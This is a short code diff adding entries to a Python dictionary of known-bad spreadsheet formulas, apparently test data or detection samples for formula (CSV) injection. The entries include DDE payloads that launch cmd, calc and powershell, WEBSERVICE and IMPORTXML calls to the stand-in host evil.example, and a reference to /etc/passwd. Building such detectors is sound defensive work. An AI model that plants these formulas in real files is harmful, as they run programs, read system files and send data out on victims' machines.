@@ -88,6 +88,8 @@ BAD: dict[str, dict[str, str]] = {
         '+WEBSERVICE("http://evil.example")': "external_call",
         '=IMPORTXML("http://evil.example","//a")': "external_call",
         "=cmd|' /C calc'!A0": "program_call",
+        "=cmd|x!A0": "program_call",
+        "='file:///etc/passwd'#$passwd.A1": "formula",
         "-2+3+cmd|' /C calc'!D2": "program_call",
         "@SUM(1+1)*cmd|' /C calc'!A0": "program_call",
         "+cmd|'/C powershell'!A0": "program_call",
